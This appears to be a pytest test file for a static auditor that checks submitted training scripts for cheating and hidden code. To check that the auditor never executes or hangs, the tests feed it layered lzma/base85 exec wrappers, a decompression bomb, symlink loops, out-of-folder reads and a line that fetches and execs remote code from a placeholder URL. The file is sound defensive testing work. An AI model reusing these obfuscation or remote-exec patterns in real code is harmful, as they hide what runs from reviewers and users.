"""Hostile and hidden source: never a crash, a hang or an execution; always a finding where something was not
judged."""

from __future__ import annotations

import base64
import lzma
import sys
import time
import zlib
from pathlib import Path

import pytest

from regrow.challenge.audit.source.reader import read_sources
from regrow.challenge.audit.static import static_findings

EVIL = 'import pathlib\npathlib.Path("/tmp/regrow-was-executed").write_text("x")\n'
FIXTURES = Path(__file__).parents[2] / "fixtures" / "audit"
BAD = (FIXTURES / "train-on-validation" / "example_bad.py").read_text(encoding="utf-8")


def rules_of(path: Path) -> set[str]:
    return {f.rule for f in static_findings(path)}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("syntax error", b"def f(:\n"),
        ("null bytes", b"x = 1\0\n"),
        ("brackets", b"(" * 100_000),
        ("unary", b"-" * 100_000 + b"1"),
        ("calls", b"f(" * 5_000 + b")" * 5_000),
        ("not python", bytes(range(256)) * 40),
    ],
)
def test_unparsable_source_is_a_finding(tmp_path: Path, name: str, data: bytes) -> None:
    (tmp_path / "train_gpt.py").write_bytes(data)
    assert rules_of(tmp_path) & {"unreadable-source", "not-followed"}, name


@pytest.mark.parametrize(
    "data",
    [
        b"x = " + b"+".join([b"a"] * 20_000),
        b"a" + b".a" * 3_000,
        b"if 1:\n" + b"".join(b" " * i + b"if x:\n" for i in range(1, 90)) + b" " * 95 + b"pass\n",
    ],
)
def test_deep_but_legal_nesting_ends(tmp_path: Path, data: bytes) -> None:
    (tmp_path / "train_gpt.py").write_bytes(data)
    before = sys.getrecursionlimit()
    static_findings(tmp_path)
    assert sys.getrecursionlimit() == before


def test_ten_megabytes_of_code_are_refused_quickly(tmp_path: Path) -> None:
    (tmp_path / "train_gpt.py").write_bytes(b"x = x + 1\n" * 1_000_000)
    start = time.process_time()
    assert "unreadable-source" in rules_of(tmp_path)
    assert time.process_time() - start < 5


def test_other_encodings_are_read_and_noted(tmp_path: Path) -> None:
    (tmp_path / "train_gpt.py").write_bytes("# caf\u00e9\nx = 1\n".encode("latin-1"))
    assert "unreadable-source" in rules_of(tmp_path)


def test_symlink_loops_end(tmp_path: Path) -> None:
    (tmp_path / "train_gpt.py").write_text("x = 1\n")
    (tmp_path / "again").symlink_to(tmp_path)
    (tmp_path / "a.py").symlink_to(tmp_path / "b.py")
    (tmp_path / "b.py").symlink_to(tmp_path / "a.py")
    assert "unreadable-source" in rules_of(tmp_path)


def wrapped(text: str, layers: int = 1) -> str:
    for _ in range(layers):
        blob = base64.b85encode(lzma.compress(text.encode())).decode()
        text = f"import lzma as L, base64 as B\nexec(L.decompress(B.b85decode({blob!r})))\n"
    return text


def test_hidden_layers_are_opened_and_judged(tmp_path: Path) -> None:
    (tmp_path / "train_gpt.py").write_text(wrapped(BAD, 3))
    found = [f for f in static_findings(tmp_path) if f.rule == "train-on-validation"]
    assert found and found[0].file == "train_gpt.py!layer1!layer1!layer1"


def test_decoders_and_blobs_in_siblings_are_followed(tmp_path: Path) -> None:
    (tmp_path / "blob.bin").write_bytes(zlib.compress(BAD.encode()))
    (tmp_path / "opener.py").write_text(
        "import zlib\ndef opened(b):\n    return zlib.decompress(b).decode()\n"
    )
    (tmp_path / "train_gpt.py").write_text(
        'from opener import opened\nexec(compile(opened(open("blob.bin", "rb").read()), "x", "exec"))\n'
    )
    assert "train-on-validation" in rules_of(tmp_path)


def test_a_script_of_one_line_that_runs_another_file_is_followed(tmp_path: Path) -> None:
    (tmp_path / "train_gpt_decode.py").write_text(BAD)
    (tmp_path / "train_gpt.py").write_text(
        'exec(open(__file__.replace("train_gpt.py", "train_gpt_decode.py")).read())\n'
    )
    assert "train-on-validation" in rules_of(tmp_path)


def test_newer_f_strings_do_not_hide_a_script(tmp_path: Path) -> None:
    (tmp_path / "train_gpt.py").write_text(BAD + "\nd = {}\nprint(f'{d['a']} and {f'{d['b']}'}')\n")
    assert "train-on-validation" in rules_of(tmp_path)


def test_nothing_is_executed(tmp_path: Path) -> None:
    marker = Path("/tmp/regrow-was-executed")
    marker.unlink(missing_ok=True)
    (tmp_path / "train_gpt.py").write_text(wrapped(EVIL) + EVIL + "exec(" + repr(EVIL) + ")\n")
    static_findings(tmp_path)
    assert not marker.exists()


def test_a_bomb_is_a_finding_and_is_not_unpacked(tmp_path: Path) -> None:
    blob = base64.b64encode(zlib.compress(b"x=1\n" * 20_000_000, 9)).decode()
    (tmp_path / "train_gpt.py").write_text(
        f"import zlib,base64\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"
    )
    start = time.process_time()
    assert "decompression-bomb" in rules_of(tmp_path)
    assert time.process_time() - start < 5


def test_a_repeated_string_cannot_blow_up_memory(tmp_path: Path) -> None:
    (tmp_path / "train_gpt.py").write_text("exec(('x' * 99999) * 99999999)\n")
    assert "decompression-bomb" in rules_of(tmp_path)


def test_files_outside_the_folder_are_not_read(tmp_path: Path) -> None:
    inside = tmp_path / "entry"
    inside.mkdir()
    (tmp_path / "secret.py").write_text(BAD)
    (inside / "train_gpt.py").write_text('exec(open("../secret.py").read())\n')
    assert "train-on-validation" not in rules_of(inside)
    assert "hidden-source" in rules_of(inside)


def test_code_that_cannot_be_read_without_running_is_said_to_be_hidden(tmp_path: Path) -> None:
    (tmp_path / "train_gpt.py").write_text(
        "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())\n"
    )
    assert "hidden-source" in rules_of(tmp_path)


def test_a_script_of_two_thousand_lines_takes_a_second(tmp_path: Path) -> None:
    body = "\n".join(
        f"def f{i}(x, y):\n    z = x * {i} + y\n    for k in range(4):\n        z = z + f{i - 1}(x, "
        "k) if k else z\n    return z\n"
        for i in range(1, 400)
    )
    (tmp_path / "train_gpt.py").write_text("def f0(x, y):\n    return x\n" + body + "\nf399(1, 2)\n" + BAD)
    assert len(read_sources(tmp_path).units[0].lines) > 1_900
    start = time.process_time()
    assert "train-on-validation" in rules_of(tmp_path)
    assert (
        time.process_time() - start < 2
    )  # a second on the reference machine; twice that is allowed to a loaded one
